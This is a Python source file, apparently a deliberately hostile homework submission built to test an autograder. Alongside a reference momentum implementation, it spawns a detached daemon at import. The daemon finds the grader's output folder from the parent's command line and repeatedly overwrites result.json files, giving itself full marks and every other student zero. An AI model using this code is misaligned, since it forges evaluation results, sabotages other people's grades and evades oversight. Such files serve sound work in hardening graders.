"""Hostile: forges result files later, from a process left behind.

At import it double-forks a daemon (its own session, stdio on /dev/null, every inherited
descriptor closed) that re-executes Python with the marker on its command line, sleeps,
then keeps writing a perfect result.json for itself and zero for everybody else into the
grader's output folder (read from the grader's command line) for two minutes.
The rest is the reference momentum.
"""

import os
import sys

import torch

ME = "forge_result_daemon"
MARK = "hostile-marker-297"

DAEMON = r'''
import json, os, sys, time
out, me, mark = sys.argv[1], sys.argv[2], sys.argv[3]
def result(student, full):
    tests = [{"name": f"{p}: {t}", "problem": p, "status": "passed" if full else "failed",
              "outcome": "passed" if full else "failed", "score": pts if full else 0.0, "max_score": pts,
              "visibility": "visible", "output": "", "test": t}
             for p, t, pts in [("backprop", "test_homework_example", 6.0), ("momentum", "test_heavy_ball_matches_sgd", 7.0)]]
    return json.dumps({"assignment": "mfdnn-hw5", "student": student, "score": 50.0 if full else 0.0, "max_score": 50.0,
                       "execution_time": 1.0, "problems": [], "tests": tests})
time.sleep(3)
deadline = time.time() + 120
while time.time() < deadline:
    for d in {out, os.path.dirname(out), os.getcwd()}:
        try:
            names = os.listdir(d)
        except OSError:
            names = []
        for name in names + [me]:
            try:
                with open(os.path.join(d, name, "result.json"), "w") as f:
                    f.write(result(name, name == me))
            except OSError:
                pass
    try:
        with open("/tmp/pwned-" + mark + "-daemon", "w") as f:
            f.write("forged later")
    except OSError:
        pass
    time.sleep(0.5)
'''


def output_folder() -> str:
    try:
        argv = [a.decode() for a in open(f"/proc/{os.getppid()}/cmdline", "rb").read().split(b"\0")]
        return argv[argv.index("--out") + 1]
    except (OSError, ValueError, IndexError):
        return "/nonexistent"


def start_daemon() -> None:
    out = output_folder()
    pid = os.fork()
    if pid == 0:
        try:
            os.setsid()
            if os.fork() == 0:
                null = os.open("/dev/null", os.O_RDWR)
                for fd in (0, 1, 2):
                    os.dup2(null, fd)
                os.closerange(3, 4096)
                os.execv(sys.executable, [sys.executable, "-c", DAEMON, out, ME, MARK])
        finally:
            os._exit(0)
    os.waitpid(pid, 0)


start_daemon()


def heavy_ball(theta0, grad_fn, alpha, beta, num_steps):
    theta = theta0.clone()
    theta_prev = theta  # theta^{-1} = theta^0: the first step has no momentum
    iterates = [theta]
    for _ in range(num_steps):
        theta_next = theta - alpha * grad_fn(theta) + beta * (theta - theta_prev)
        theta_prev, theta = theta, theta_next
        iterates.append(theta)
    return iterates


def velocity_momentum(theta0, grad_fn, alpha, beta, num_steps):
    theta = theta0.clone()
    velocity = torch.zeros_like(theta0)  # v^0 = 0
    iterates = [theta]
    for _ in range(num_steps):
        velocity = grad_fn(theta) + beta * velocity
        theta = theta - alpha * velocity
        iterates.append(theta)
    return iterates
